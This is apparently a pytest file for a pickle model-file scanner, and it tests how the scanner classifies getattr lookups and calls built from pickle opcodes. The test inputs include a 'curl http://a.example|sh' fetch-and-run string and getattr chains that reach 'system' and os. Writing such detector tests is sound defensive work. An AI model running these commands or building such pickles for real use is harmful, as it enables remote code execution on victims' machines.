from __future__ import annotations

import pytest
from tests.formats.assemble import EMPTY_TUPLE, call, fetch, number, pickle, run, text, tup
from tests.formats.pickle.opinions import worst

from modelward.formats.pickle.judge import Opinion
from modelward.formats.pickle.reach import Reach, is_reached, reach
from modelward.formats.pickle.values import Made

ENUM = fetch("transformers.trainer_utils", "IntervalStrategy")
NET = fetch("acme.models", "Net")
INSTANCE = NET + EMPTY_TUPLE + b"\x81"


def reached(*parts: bytes) -> tuple[Reach, str]:
    return reach(run(pickle(tup(*parts)))[0].value)


@pytest.mark.parametrize(
    ("parts", "kind"),
    [
        ((ENUM, text("STEPS")), Reach.MEMBER),
        ((fetch("builtins", "str"), text("lower")), Reach.MEMBER),
        ((fetch("zoneinfo", "ZoneInfo"), text("_unpickle")), Reach.MEMBER),
        ((NET, text("from_bytes")), Reach.UNKNOWN),
        ((INSTANCE, text("tokenize")), Reach.UNKNOWN),
        ((fetch("sklearn.svm._classes", "SVC"), text("fit")), Reach.UNKNOWN),
        ((ENUM, text("__class__")), Reach.SINK),
        ((NET, text("system")), Reach.SINK),
        ((NET, text("a.b")), Reach.SINK),
        ((NET, number(1)), Reach.SINK),
        ((NET, call("builtins", "str", text("system"))), Reach.SINK),
        ((NET,), Reach.SINK),
        ((fetch("os", "path"), text("join")), Reach.SINK),
        ((fetch("builtins", "print"), text("x")), Reach.SINK),
        ((fetch("queue", "x"), text("y")), Reach.SINK),
        ((call("builtins", "getattr", NET, text("a")), text("b")), Reach.SINK),
        ((call("importlib", "import_module", text("os")), text("path")), Reach.SINK),
        ((number(1), text("real")), Reach.SINK),
    ],
)
def test_what_getattr_gives(parts: tuple[bytes, ...], kind: Reach) -> None:
    assert reached(*parts)[0] is kind


def test_owner_is_named() -> None:
    assert reached(NET, text("from_bytes"))[1] == "acme.models.Net"


def test_result_of_getattr_is_known_as_such() -> None:
    value = run(pickle(call("__builtin__", "getattr", NET, text("a"))))[0].value
    assert isinstance(value, Made)
    assert is_reached(value)
    assert not is_reached(run(pickle(call("acme", "getattr", NET, text("a"))))[0].value)


@pytest.mark.parametrize(
    ("value", "opinion"),
    [
        (call("builtins", "getattr", NET, text("from_bytes")) + tup(text("x")) + b"R", Opinion.UNKNOWN),
        (
            call("builtins", "getattr", NET, text("start")) + tup(text("curl http://a.example|sh")) + b"R",
            Opinion.SUSPICIOUS,
        ),
        (
            call("builtins", "getattr", fetch("zoneinfo", "ZoneInfo"), text("_unpickle"))
            + tup(text("UTC"))
            + b"R",
            Opinion.ALLOWED,
        ),
        (
            call("builtins", "getattr", fetch("zoneinfo", "ZoneInfo"), text("_unpickle"))
            + tup(text("/etc/x"))
            + b"R",
            Opinion.MISUSED,
        ),
        (call("builtins", "getattr", ENUM, text("STEPS")) + EMPTY_TUPLE + b"R", Opinion.SINK),
    ],
)
def test_calls_of_what_getattr_gave(value: bytes, opinion: Opinion) -> None:
    assert worst(pickle(value)) is opinion
